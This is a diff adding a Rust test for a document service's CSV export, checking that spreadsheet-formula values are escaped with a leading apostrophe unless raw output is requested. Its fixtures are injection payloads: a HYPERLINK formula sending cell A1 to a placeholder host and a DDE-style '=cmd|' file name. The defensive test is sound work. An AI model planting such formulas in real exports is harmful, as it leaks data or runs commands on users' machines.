@@ -10,7 +10,8 @@ use actix_web::body::MessageBody as _;
 use actix_web::http::StatusCode;
 use actix_web::test::TestRequest;
 use fieldmark_domain::document::{
-    Document, DocumentId, DocumentQuery, DocumentRecord, DocumentStatus, FieldCondition, ListedDocument,
+    Description, Document, DocumentId, DocumentQuery, DocumentRecord, DocumentStatus, FieldCondition,
+    ListedDocument,
 };
 use fieldmark_domain::field::Field;
 use fieldmark_domain::label::StoredLabel;
@@ -126,6 +127,33 @@ async fn comma_separated_values_have_headings_and_a_row_a_label() {
             let place = ["page", "left", "top", "width", "height"].map(|name| &row[column(name)]);
             assert_eq!(place, ["1", "0.5", "0.25", "0.125", "0.0625"]);
         }
+    }
+}
+
+#[actix_web::test]
+async fn text_that_a_spreadsheet_would_calculate_is_text_unless_it_is_wanted_raw() {
+    const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&A1;\"Invoice\")";
+    let ports = || {
+        let mut ports = Ports::new();
+        ports.documents.expect_list().returning(|_, _| {
+            let description = Description::of_file("=cmd|' !A0.pdf");
+            let document = Document { description, ..nth(0) };
+            let name = StoredLabel { document: id(0), ..label(Field::SupplierName, FORMULA, 0.5) };
+            let amount = StoredLabel { document: id(0), ..label(Field::TotalGross, "-12.50", 0.5) };
+            Ok(Listing { items: vec![ListedDocument { document, labels: vec![name, amount] }], total: 1 })
+        });
+        ports
+    };
+    for (query, name, value) in [
+        ("format=csv", "'=cmd|' !A0.pdf", format!("'{FORMULA}")),
+        ("format=csv&raw=true", "=cmd|' !A0.pdf", FORMULA.to_owned()),
+    ] {
+        let answer = ports().ask(export(query)).await;
+        let mut reader = csv::Reader::from_reader(answer.bytes.as_slice());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(rows.iter().map(|row| &row[1]).collect::<Vec<_>>(), [name, name]);
+        assert_eq!(rows.iter().map(|row| &row[4]).collect::<Vec<_>>(), [value.as_str(), "-12.50"]);
+        assert_eq!(rows.iter().map(|row| &row[6]).collect::<Vec<_>>(), [value.as_str(), "-12.50"]);
     }
 }
 
